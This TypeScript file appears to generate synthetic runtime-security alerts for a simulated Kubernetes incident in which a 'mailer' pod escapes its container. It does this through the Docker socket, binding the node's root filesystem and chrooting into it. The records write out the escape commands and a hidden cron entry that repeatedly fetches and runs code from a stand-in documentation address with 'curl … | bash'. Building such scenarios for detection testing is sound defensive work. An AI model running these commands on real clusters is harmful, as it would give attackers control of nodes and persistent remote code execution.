import type { ScenarioRecord } from '../record.ts';
import { falcoAlert, nodeExec, tetragonExec } from '../records/runtime.ts';
import type { Story } from '../scenario.ts';
import type { World } from '../world.ts';

const minute_ms = 60_000;
/** An address of a documentation range (RFC 5737). */
const controlAddress = '198.51.100.200';

/**
 * A pod that mounts the socket of the container runtime starts a container with the node's disk, which Kubernetes does not
 * know of, and leaves a schedule on the node that fetches from outside.
 */
function records(world: World): readonly ScenarioRecord[] {
  const pod = world.podOf('mailer');
  const container = world.hex(64);
  const at = (minutes: number): number => world.start_ms + Math.round(minutes * minute_ms);
  const curl = (options: string, minutes: number): ScenarioRecord =>
    tetragonExec(
      world,
      pod,
      '/usr/bin/curl',
      `-s --unix-socket /var/run/docker.sock ${options}`,
      at(minutes),
      'key',
    );
  return [
    falcoAlert(
      world,
      pod,
      {
        rule: 'Terminal shell in container',
        priority: 'Notice',
        text: 'A shell was spawned in a container with an attached terminal',
        tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
        process: 'sh',
        parent: 'node',
        command_line: 'sh -i',
        event_type: 'execve',
        fields: { 'proc.tty': 34_816 },
      },
      at(15),
      'key',
    ),
    curl('http://localhost/containers/json', 15.6),
    curl(
      '-X POST -d {"Image":"alpine","HostConfig":{"Binds":["/:/h"]}} http://localhost/containers/create',
      16,
    ),
    nodeExec(world, pod.node, '/usr/sbin/chroot', '/h sh', at(16.5), container, 'key'),
    nodeExec(
      world,
      pod.node,
      '/bin/sh',
      `-c "echo '* * * * * root curl -s http://${controlAddress}/k|bash' > /etc/cron.d/.sys"`,
      at(17),
      container,
      'key',
    ),
    nodeExec(world, pod.node, '/usr/bin/curl', `-s http://${controlAddress}/k`, at(18), undefined, 'key'),
  ];
}

export const runtimeSocket: Story = {
  title: 'booking/mailer leaves its container by the socket of the container runtime and stays on the node',
  records,
};
